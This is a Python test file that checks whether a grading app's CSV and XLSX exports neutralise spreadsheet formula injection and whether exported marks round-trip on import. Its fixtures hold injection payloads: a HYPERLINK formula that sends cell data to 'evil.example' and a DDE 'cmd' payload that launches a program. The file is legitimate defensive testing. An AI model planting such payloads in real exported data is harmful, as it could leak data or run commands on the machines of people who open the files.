"""Every CSV and XLSX export: untrusted text (comments, system, team and juror names, criterion
codes) never reaches a spreadsheet as a formula, and a marks export imports back as it was."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from grading.models import Mark
from grading.services import assignment_submit, mark_save, marks_csv, marks_import, marks_xlsx
from ioleval.spreadsheet import FORMULA_TRIGGERS
from puzzles.models import System
from tests.grading.factories import AssignmentFactory, JurorFactory, PaperFactory, rubric_with
from tests.puzzles.factories import CompetitionFactory, ProblemFactory, SystemFactory

D = Decimal
LINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
COMMENTS = {
    ("+alice", "=1a"): LINK,
    ("+alice", "@1b"): "-1 for the plural",
    ("-bob", "=1a"): "'=already quoted by the juror",
    ("-bob", "@1b"): "\tcmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(db):
    """A graded paper whose system, team, jurors, criteria and comments all look like formulas."""
    competition = CompetitionFactory(slug="hostile")
    problem = ProblemFactory(competition=competition, number=1)
    rubric_with(problem, ("=1a", 2, "0.5"), ("@1b", 3, 1))
    system = SystemFactory(competition=competition, name="=SUM(1,2)", team="+team")
    paper = PaperFactory(problem=problem, system=system)
    criteria = {c.code: c for c in problem.rubrics.get().criteria.all()}
    for juror in ("+alice", "-bob"):
        assignment = AssignmentFactory(paper=paper, juror=JurorFactory(username=juror))
        for code in criteria:
            mark_save(
                assignment=assignment,
                criterion=criteria[code],
                points="1",
                comment=COMMENTS[(juror, code)],
            )
        assignment_submit(assignment=assignment)
    return competition


def _comments(*, stripped: bool = False) -> dict[tuple[str, str], str]:
    """Return the marks' comments; stripped as an import (and the grading form) stores them."""
    marks = Mark.objects.select_related("assignment__juror", "criterion")
    comments = {(m.assignment.juror.username, m.criterion.code): m.comment for m in marks}
    return {k: v.strip() for k, v in comments.items()} if stripped else comments


def _assert_no_formula_in_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_TRIGGERS), (column, value)
    return rows


def _assert_text_not_formulas(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = [list(r) for r in sheet.iter_rows()]
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.value
    return rows


def test_marks_csv_prefixes_every_formula_like_cell_and_keeps_points_numbers(hostile):
    text = marks_csv(hostile)
    rows = _assert_no_formula_in_csv(text)
    marks = [r for r in rows if r["status"] == "submitted"]
    assert {r["system"] for r in rows} == {"'=SUM(1,2)"}
    assert {r["juror"] for r in marks} == {"'+alice", "'-bob"}
    assert {r["criterion"] for r in rows} == {"'=1a", "'@1b"}
    assert {r["comment"] for r in marks} == {"'" + c for c in COMMENTS.values()}
    assert f'"\'{LINK.replace(chr(34), chr(34) * 2)}"' in text  # quoted, as OWASP asks
    # Points are numbers: written bare, never prefixed.
    assert all(f",{r['points']}," in text for r in marks)
    assert {D(r["points"]) for r in marks} == {D("1")}


def test_marks_xlsx_stores_formula_like_text_as_text_and_points_as_numbers(hostile):
    rows = _assert_text_not_formulas(marks_xlsx(hostile))
    header = [c.value for c in rows[0]]
    body = [{h: c for h, c in zip(header, row, strict=True)} for row in rows[1:]]
    marks = [r for r in body if r["status"].value == "submitted"]
    assert {r["comment"].value for r in marks} == set(COMMENTS.values())
    assert {r["system"].value for r in body} == {"=SUM(1,2)"}
    assert all(r["system"].quotePrefix for r in body)
    assert {r["points"].data_type for r in body} == {"n"}
    assert {r["points"].value for r in body} == {1}


def test_a_marks_csv_export_imports_back_to_the_same_text(hostile):
    exported = marks_csv(hostile)
    assert "'=1a" in exported and "''=already quoted" in exported
    before = _comments(stripped=True)
    assert set(_comments().values()) == set(COMMENTS.values())
    Mark.objects.update(comment="")
    result = marks_import(competition=hostile, stream=io.StringIO(exported), file="marks.csv")
    # Names, criterion codes and comments all matched their originals: no new juror or paper.
    assert (result.marks, result.users_created, result.papers_created) == (4, [], 0)
    assert _comments() == before


def test_export_marks_and_import_marks_commands_round_trip(hostile, tmp_path):
    out = tmp_path / "marks.csv"
    call_command("export_marks", "hostile", "--format", "csv", "--out", str(out))
    _assert_no_formula_in_csv(out.read_text(encoding="utf-8"))
    before = _comments(stripped=True)
    Mark.objects.update(comment="")
    call_command("import_marks", "hostile", str(out), stdout=io.StringIO())
    assert _comments() == before
    xlsx = tmp_path / "marks.xlsx"
    call_command("export_marks", "hostile", "--format", "xlsx", "--out", str(xlsx))
    _assert_text_not_formulas(xlsx.read_bytes())


def test_marks_export_pages_neutralize_formulas(client, organizer, hostile):
    client.force_login(organizer)
    response = client.get(reverse("grading:marks_export", args=["hostile", "csv"]))
    assert response.status_code == 200
    _assert_no_formula_in_csv(response.content.decode())
    response = client.get(reverse("grading:marks_export", args=["hostile", "xlsx"]))
    assert response.status_code == 200
    _assert_text_not_formulas(response.content)


@pytest.fixture
def hostile_board(demo_competition):
    """The demo board with one system named and teamed like formulas."""
    system = System.objects.filter(competition=demo_competition).order_by("name").first()
    system.name, system.team = LINK, "@team"
    system.save()
    return demo_competition


def test_leaderboard_exports_neutralize_system_and_team_names(organizer_client, hostile_board):
    url = reverse("puzzles:leaderboard_export", args=["demo", "csv"])
    rows = _assert_no_formula_in_csv(organizer_client.get(url).content.decode())
    hostile = next(r for r in rows if r["team"] == "'@team")
    assert hostile["system"] == "'" + LINK
    assert 0 <= float(hostile["score"]) <= 1
    url = reverse("puzzles:leaderboard_export", args=["demo", "xlsx"])
    cells = _assert_text_not_formulas(organizer_client.get(url).content)
    header = [c.value for c in cells[0]]
    row = next(r for r in cells[1:] if r[header.index("system")].value == LINK)
    assert row[header.index("team")].value == "@team"
    assert row[header.index("score")].data_type == "n"


def test_score_command_csv_neutralizes_system_names(hostile_board):
    out = io.StringIO()
    call_command("score", "demo", "--all-columns", stdout=out)
    rows = _assert_no_formula_in_csv(out.getvalue())
    assert "'" + LINK in {r["system"] for r in rows}
